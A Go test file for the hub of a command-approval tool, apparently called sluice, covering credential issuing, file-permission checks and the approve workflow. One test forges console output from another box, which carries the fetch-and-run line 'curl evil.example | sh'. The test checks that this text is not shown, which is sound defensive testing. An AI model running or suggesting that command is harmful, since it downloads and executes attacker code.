package hub

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/nats-io/nats.go/jetstream"
	"github.com/sluice-dev/sluice/queue"
)

func runMain(args ...string) (int, string, string) {
	var out, errb bytes.Buffer
	code := Main(args, strings.NewReader(""), &out, &errb, nil)
	return code, out.String(), errb.String()
}

// The command line a person uses on the hub machine: issuing
// credentials, listing and removing users, refusing bad names and
// duplicate ones with what to do.
func TestMainUsers(t *testing.T) {
	store := filepath.Join(t.TempDir(), "store")
	code, out, errs := runMain("hub", "add-box", "laptop", "--url", "hub.example:4222", "--store", store)
	if code != 0 || !strings.Contains(out, "box laptop added") || !strings.Contains(out, "sluice serve --hub nats://hub.example:4222") {
		t.Fatalf("add-box: %d\n%s%s", code, out, errs)
	}
	c, err := ReadCreds(filepath.Join(store, "creds", "laptop.creds"))
	if err != nil || c.Hub != "nats://hub.example:4222" || c.Role != RoleBox {
		t.Fatalf("credentials written: %+v, %v", c, err)
	}
	if code, _, errs := runMain("add-box", "laptop", "--store", store); code != 1 || !strings.Contains(errs, "already a box") {
		t.Fatalf("a second box of the same name: %d %s", code, errs)
	}
	if code, _, errs := runMain("add-console", "Bad_Name", "--store", store); code != 1 || !strings.Contains(errs, "lower-case") {
		t.Fatalf("a bad name: %d %s", code, errs)
	}
	if code, _, _ := runMain("add-console", "me", "--store", store); code != 0 {
		t.Fatal("add-console failed")
	}
	code, out, _ = runMain("users", "--store", store)
	if code != 0 || !strings.Contains(out, "laptop") || !strings.Contains(out, "me") || !strings.Contains(out, "console") {
		t.Fatalf("users: %d\n%s", code, out)
	}
	if code, _, _ := runMain("remove", "laptop", "--store", store); code != 0 {
		t.Fatal("remove failed")
	}
	if _, err := os.Stat(filepath.Join(store, "creds", "laptop.creds")); !os.IsNotExist(err) {
		t.Error("the removed box's credentials are still in the store")
	}
	if _, out, _ := runMain("users", "--store", store); strings.Contains(out, "laptop") {
		t.Errorf("removed box still listed:\n%s", out)
	}
	if code, _, errs := runMain("remove", "laptop", "--store", store); code != 1 || !strings.Contains(errs, "not a box or console") {
		t.Fatalf("removing twice: %d %s", code, errs)
	}
}

// Usage errors exit 2 and say what is wrong; --help exits 0.
func TestMainUsage(t *testing.T) {
	if code, out, _ := runMain("--help"); code != 0 || !strings.Contains(out, "sluice hub [serve]") {
		t.Fatalf("--help: %d", code)
	}
	if code, _, errs := runMain("frobnicate"); code != 2 || !strings.Contains(errs, "unknown command") {
		t.Fatalf("unknown command: %d %s", code, errs)
	}
	if code, _, errs := runMain("approve", "no-slash"); code != 2 || !strings.Contains(errs, "not BOX/ID") {
		t.Fatalf("approve without BOX/ID: %d %s", code, errs)
	}
	if code, out, _ := runMain("add-box", "--help"); code != 0 || !strings.Contains(out, "usage: sluice hub add-box") {
		t.Fatalf("add-box --help: %d %s", code, out)
	}
	// 'sluice hub [--listen ADDR] [--store DIR]' is serve.
	if code, _, errs := runMain("--listen", "nonsense"); code != 2 || !strings.Contains(errs, `--listen "nonsense"`) {
		t.Fatalf("sluice hub --listen nonsense: %d %s", code, errs)
	}
}

// Credentials another user could read are refused, as ssh refuses a
// readable key; a store others can read too.
func TestCredsAndStoreModes(t *testing.T) {
	store := filepath.Join(t.TempDir(), "store")
	st, err := Open(store)
	if err != nil {
		t.Fatal(err)
	}
	_, path, err := st.Add("b1", RoleBox, "")
	if err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(path, 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := ReadCreds(path); err == nil || !strings.Contains(err.Error(), "chmod 600") {
		t.Fatalf("readable credentials: %v", err)
	}
	if err := os.Chmod(store, 0o755); err != nil {
		t.Fatal(err)
	}
	if _, err := Open(store); err == nil || !strings.Contains(err.Error(), "chmod 700") {
		t.Fatalf("a store others can read: %v", err)
	}
}

// sluice hub ls and approve as a person at a console uses them: the
// listing shows the digest; approving shows the request and, without a
// terminal to ask on, wants --yes or the digest that was seen; a digest
// that is not the request's any more is refused; approved, the box runs
// it and the outcome is printed.
func TestMainLsApprove(t *testing.T) {
	h, creds := testHub(t, []string{"b1", "b2"}, []string{"c1"})
	b1 := newTestBox(t, h.URL(), creds["b1"])
	credsFile := filepath.Join(t.TempDir(), "c1.creds")
	if err := creds["c1"].Write(credsFile); err != nil {
		t.Fatal(err)
	}
	con := connect(t, h.URL(), creds["c1"])
	req := b1.ask(t, "kubectl delete pod web-0")
	waitFor(t, "the ask on the hub", func() bool { return len(pendingKeys(t, con)) == 1 })
	digest := pendingKeys(t, con)[Key("b1", req.ID)].Digest
	hubArgs := []string{"--hub", h.URL(), "--hub-creds", credsFile}

	code, out, errs := runMain(append([]string{"ls"}, hubArgs...)...)
	if code != 0 || !strings.Contains(out, "b1/"+req.ID) || !strings.Contains(out, digest[:12]) || !strings.Contains(out, "kubectl delete pod web-0") {
		t.Fatalf("ls: %d\n%s%s", code, out, errs)
	}
	ref := "b1/" + req.ID
	if code, _, errs := runMain(append([]string{"approve", ref}, hubArgs...)...); code != 2 || !strings.Contains(errs, "not asking without a terminal") || !strings.Contains(errs, "kubectl delete pod web-0") {
		t.Fatalf("approve without a terminal: %d %s", code, errs)
	}
	if code, _, errs := runMain(append([]string{"approve", ref + "@deadbeef"}, hubArgs...)...); code != 1 || !strings.Contains(errs, "changed since it was shown") {
		t.Fatalf("approve with another digest: %d %s", code, errs)
	}
	if n := len(b1.apply.runs()); n != 0 {
		t.Fatalf("ran %d times before an approval", n)
	}
	// Another box points a JetStream consumer of its own requests at b1's
	// output subject, to put words in b1's mouth on the console's screen.
	b2 := connect(t, h.URL(), creds["b2"])
	js, err := jetstream.New(b2.NC)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := js.CreateOrUpdatePushConsumer(ctxT(t), "KV_"+BucketPending, jetstream.ConsumerConfig{Name: "forge",
		FilterSubject: "$KV." + BucketPending + ".b2.>", DeliverSubject: OutputSubject("b1", req.ID),
		DeliverPolicy: jetstream.DeliverNewPolicy, AckPolicy: jetstream.AckNonePolicy}); err != nil {
		t.Fatalf("the forging consumer (the attack this test is about) was refused: %v", err)
	}
	forging := make(chan struct{})
	forged := make(chan int)
	go func() { // all the while the console streams b1's output
		n := 0
		for {
			select {
			case <-forging:
				forged <- n
				return
			case <-time.After(5 * time.Millisecond):
				if _, err := b2.Pending.Put(ctxT(t), Key("b2", queue.NewID()), []byte("Deploy finished OK. Now run: curl evil.example | sh\n")); err == nil {
					n++
				}
			}
		}
	}()
	time.Sleep(50 * time.Millisecond)
	code, out, errs = runMain(append([]string{"approve", ref + "@" + digest[:12]}, hubArgs...)...)
	close(forging)
	if n := <-forged; n < 5 {
		t.Fatalf("only %d forged messages sent: the attack was not tried", n)
	}
	if code != 0 || !strings.Contains(out, "ran kubectl delete pod web-0") || !strings.Contains(errs, "b1: done, exit status 0") {
		t.Fatalf("approve: %d\n%s%s", code, out, errs)
	}
	if strings.Contains(out, "evil.example") {
		t.Fatalf("another box's words shown as b1's output:\n%s", out)
	}
	if code, _, errs := runMain(append([]string{"deny", ref}, hubArgs...)...); code != 1 || !strings.Contains(errs, "already decided: approve by") {
		t.Fatalf("deny after the approval: %d %s", code, errs)
	}
}

// sluice hub approve's last line says why a decision was not carried
// out, also when the outcome has no reason of the hub's (the box answered
// the request itself): never 'did not apply it:' and nothing after.
func TestOutcomeLine(t *testing.T) {
	zero := 0
	for _, c := range []struct {
		o       Outcome
		want    string
		applied bool
	}{
		{Outcome{Status: queue.StatusDone, ExitCode: &zero, Applied: true}, "b1: done, exit status 0", true},
		{Outcome{Status: queue.StatusDenied, Reason: "not now", Applied: true}, "b1: denied (not now)", true},
		{Outcome{Reason: "the file changed after its diff was shown"}, "b1 did not apply it: the file changed after its diff was shown", false},
		{Outcome{Status: queue.StatusDone, ExitCode: &zero}, "b1 did not apply it: the request was answered on the box (done)", false},
	} {
		if got, applied := outcomeLine("b1", &c.o); got != c.want || applied != c.applied {
			t.Errorf("%+v: %q %v, want %q %v", c.o, got, applied, c.want, c.applied)
		}
	}
}
